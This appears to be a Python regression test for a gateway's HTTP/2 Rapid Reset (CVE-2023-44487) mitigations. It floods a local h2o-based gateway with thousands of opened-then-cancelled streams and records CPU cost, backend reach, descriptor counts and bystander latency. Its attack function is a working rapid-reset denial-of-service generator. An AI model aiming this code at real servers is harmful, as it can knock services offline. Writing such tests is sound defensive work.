#!/usr/bin/env python3
"""HTTP/2 Rapid Reset (CVE-2023-44487) against the gateway: a client opens streams and
resets each one at once (HEADERS + RST_STREAM(CANCEL) in the same write, 100 per write).
Debian's h2o 2.2.5 predates the upstream mitigations, so this test measures what the
attack costs — gateway CPU per reset stream (from /proc/<pid>/stat) against CPU per normal
request, and how many reset requests still reach a backend — and asserts what must hold
regardless: the gateway survives, keeps serving another client during the attack with
bounded latency, leaks no upstream connections or descriptors, and no reset stream was
presented to the attacker as a success. Figures are printed as `# FIGURE name = value`
(docs/security.md quotes them).

Two shapes: GETs (complete requests: h2o runs the handler before it parses the RST_STREAM in
the same read) and POSTs reset before their body ends (h2o buffers the body first, so these
never reach the handler).

Two gateways: one with limits.h2_max_resets 0 measures the first mitigation alone (the handler
defers the upstream connect by one loop turn, so a stream reset in the same read never opens an
upstream connection nor reaches a backend: asserted to be zero), the other with the default
limit (100) asserts the second: the attacking connection is closed after a little more than 100
reset streams (GOAWAY ENHANCE_YOUR_CALM: h2o asks the gateway after each reset, through the hook of
patches/0005-http2-stream-reset-hook.patch) and counted in domicile_h2_rapid_reset_connections_total."""
import os
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import h2raw  # noqa: E402
import hardening as X  # noqa: E402
import harness as H  # noqa: E402
from test_ops_reload import admin_get, metric  # noqa: E402

STREAMS = 10000
BATCH = 100


def attack(port, tag, n, shape, xff, sync=False):
    """Opens and resets n streams on one connection. Returns (conn, seconds, sids). With sync, each
    write of BATCH streams is followed by a PING whose answer is awaited: the gateway has handled the
    write before the next one goes, so a close is seen (its GOAWAY is not lost to a reset connection)
    and counted to the write, even when the gateway runs slowly (ASan)."""
    c = h2raw.H2Conn("127.0.0.1", port, timeout=10)
    c.pump(until=lambda c: h2raw.SETTINGS_MAX_CONCURRENT_STREAMS in c.server_settings or c.closed, timeout=5)
    t0 = time.monotonic()
    sids = []
    for start in range(0, n, BATCH):
        out = []
        for i in range(start, min(n, start + BATCH)):
            path = "/v1/sync/%s-%d" % (tag, i)
            if shape == "get":
                sid, f = c.headers_frame("GET", path, {"x-forwarded-for": xff}, end_stream=True)
            else:
                sid, f = c.headers_frame("POST", path, {"x-forwarded-for": xff, "content-length": "4096"},
                                         end_stream=False)
                f += c.frame(h2raw.DATA, 0, sid, b"x" * 512)
            out.append(f + c.rst_frame(sid, h2raw.CANCEL))
            sids.append(sid)
        if sync:
            pings = c.frames_in.get(h2raw.PING, 0)
            out.append(c.frame(h2raw.PING, 0, 0, b"syncsync"))
        if not c.send(b"".join(out)):
            break
        # read what came back so the server is never blocked writing to us
        if sync:
            c.pump(until=lambda c: c.frames_in.get(h2raw.PING, 0) > pings or c.closed or c.goaway is not None,
                   timeout=10)
        else:
            c.pump(timeout=0.001)
        if c.closed or c.goaway is not None:
            break
    c.pump(timeout=0.5)
    return c, time.monotonic() - t0, sids


def main(t):
    H.require_tools("h2load", "curl")
    attacks(t, 0)
    attacks(t, 100)


def attacks(t, limit):
    mode = "off" if limit == 0 else "limit%d" % limit
    # r-alpha (where the attack's DE reads go) is a backend that counts connections as well as requests
    bad = X.BadBackend()
    admin_port = H.free_port()
    d, backends, gw = X.small_gateway(t, threads=1, alpha_nodes=[bad.url],
                                      extra={"limits": {"h2_max_resets": limit},
                                             "admin": {"listen": "127.0.0.1:%d" % admin_port}})
    pid = gw.proc.pid
    port = gw.listener("clear")[1]
    de = H.geo_addr("DE")
    X.still_serves(t, gw, backends, "before the attack")
    fds_before = X.open_fds(pid)

    # Baseline: CPU per ordinary routed GET (h2c, one connection, 10 streams in flight).
    tag = "base-" + H.uid()
    n_base = 3000
    cpu0 = X.cpu_seconds(pid)
    res = H.h2load("http://127.0.0.1:%d/v1/sync/%s" % (port, tag), n_base, c=1, m=10,
                   headers={"x-forwarded-for": de})
    cpu_base = (X.cpu_seconds(pid) - cpu0) / max(1, res["succeeded"])
    t.eq(res.get("2xx"), n_base, "baseline: %d routed GETs all 2xx" % n_base)
    t.note("FIGURE rapid_reset.baseline_cpu_us_per_request = %.1f" % (cpu_base * 1e6))

    for shape in ("get", "post") if limit == 0 else ("get",):
        tag = "rr%s-%s" % (shape, H.uid())
        latencies = []
        stop = threading.Event()

        def bystander():
            # another client keeps writing during the attack: it must be served, and promptly
            while not stop.is_set():
                path = "/v1/sync/by-%s" % H.uid()
                r, dt = X.timed(H.curl, port, path, "PUT", {"X-Forwarded-For": X.UNKNOWN}, b"b" * 64, "h2c",
                                "127.0.0.1", 10)
                latencies.append((r.status, dt, path))

        th = threading.Thread(target=bystander, daemon=True)
        conns0 = bad.accepted
        cpu0 = X.cpu_seconds(pid)
        th.start()
        c, secs, sids = attack(port, tag, STREAMS, shape, de, sync=limit != 0)
        cpu_attack = X.cpu_seconds(pid) - cpu0
        stop.set()
        th.join(30)
        sent = len(sids)
        shape_name = shape
        shape = "%s.%s" % (mode, shape_name)
        t.ok(gw.proc.poll() is None, "%s: the gateway survives %d rapid resets" % (shape, sent))
        t.note("FIGURE rapid_reset.%s.streams_reset = %d in %.2f s (%.0f/s)" % (shape, sent, secs, sent / secs))
        t.note("FIGURE rapid_reset.%s.cpu_s_during_attack = %.2f (%.1f us per reset stream, %.1fx a normal request)"
               % (shape, cpu_attack, cpu_attack / max(1, sent) * 1e6, cpu_attack / max(1, sent) / max(cpu_base, 1e-9)))
        if c.goaway is not None:
            t.note("FIGURE rapid_reset.%s.goaway = last_stream %d, %s" % (shape, c.goaway[0],
                                                                          h2raw.error_name(c.goaway[1])))
        else:
            t.note("FIGURE rapid_reset.%s.goaway = none (connection %s)" % (shape, "closed" if c.closed else "open"))

        # What the attacker was told: never a success for a stream it reset before the answer.
        success = [s for s in sids if c.streams[s].ended and c.streams[s].status == 200]
        # Backends settle: upstream requests already in flight finish or are cut.
        time.sleep(0)  # (no sleep needed: the wait below polls)
        prev = [-1]

        def settled():
            n = bad.count("/v1/sync/" + tag) * 100000 + bad.accepted
            same = n == prev[0]
            prev[0] = n
            return same

        H.wait_until(settled, 15, interval=0.5, what="backend records to settle")
        reached = bad.count("/v1/sync/" + tag)
        conns = bad.accepted - conns0
        t.note("FIGURE rapid_reset.%s.upstream_connections = %d for %d reset streams" % (shape, conns, sent))
        t.note("FIGURE rapid_reset.%s.reached_backend = %d of %d reset streams (%.1f%%)"
               % (shape, reached, sent, 100.0 * reached / max(1, sent)))
        t.note("FIGURE rapid_reset.%s.answered_200_before_reset = %d" % (shape, len(success)))
        missing = [s for s in success if bad.count("/v1/sync/%s-%d" % (tag, sids.index(s))) == 0]
        t.eq(missing, [], "%s: every stream the attacker saw succeed is on a backend" % shape)
        if shape_name == "post":
            t.eq(reached, 0, "post: a request reset before its body ends never reaches a backend")
        else:
            # the upstream connect waits one loop turn: the RST_STREAM in the same read cancels it first
            t.eq(reached, 0, "%s: no GET reset in the packet of its HEADERS reaches a backend" % shape)
            t.eq(conns, 0, "%s: no upstream connection is opened for GETs reset in the packet of their HEADERS"
                 % shape)
        if limit:
            t.ok(c.closed and sent <= limit + 2 * BATCH,
                 "%s: the gateway shuts the connection after about %d cancelled streams (%d sent, closed: %s)"
                 % (shape, limit, sent, c.closed))
            t.ok(c.goaway is not None and c.goaway[1] == h2raw.ENHANCE_YOUR_CALM,
                 "%s: ... with GOAWAY(ENHANCE_YOUR_CALM)" % shape, c.goaway)
            cut = metric(admin_get(admin_port, "/metrics")[1], "domicile_h2_rapid_reset_connections_total", {})
            t.eq(cut, 1, "%s: the cut connection is counted in domicile_h2_rapid_reset_connections_total" % shape)
        t.ok(reached <= sent, "%s: no more backend requests than streams opened" % shape, reached)

        ok = [x for x in latencies if x[0] == 200]
        worst = max([x[1] for x in latencies] or [0])
        t.ok(len(latencies) >= 1 and len(ok) == len(latencies),
             "%s: another client is served during the attack (%d/%d writes 200)" % (shape, len(ok), len(latencies)),
             [x for x in latencies if x[0] != 200][:5])
        t.ok(worst < 5.0, "%s: another client's worst latency during the attack < 5 s" % shape, worst)
        t.note("FIGURE rapid_reset.%s.bystander = %d writes, worst %.0f ms" % (shape, len(latencies), worst * 1000))
        recs = {r["path"] for r in H.all_records(backends) if r["path"].startswith("/v1/sync/by-")}
        t.eq([x[2] for x in ok if x[2] not in recs], [], "%s: every bystander write that got 200 is recorded" % shape)
        c.close()

    # No descriptor leak: upstream connections of the reset streams are closed or pooled.
    fds_after = H.wait_until(lambda: (lambda n: n if n <= fds_before + 8 else None)(X.open_fds(pid)), 15,
                             interval=0.25, what="gateway descriptors back near %d (now %d)" % (fds_before,
                                                                                                X.open_fds(pid)))
    t.note("FIGURE rapid_reset.%s.fds = %d before, %d after" % (mode, fds_before, fds_after))
    t.note("FIGURE rapid_reset.%s.rss_kib_after = %d" % (mode, X.rss_kib(pid)))
    X.still_serves(t, gw, backends, "after the attack")
    bad.stop()
    gw.signal(15)
    gw.wait_exit(10)


if __name__ == "__main__":
    H.run_test("abuse_h2_rapid_reset", main, timeout=240)
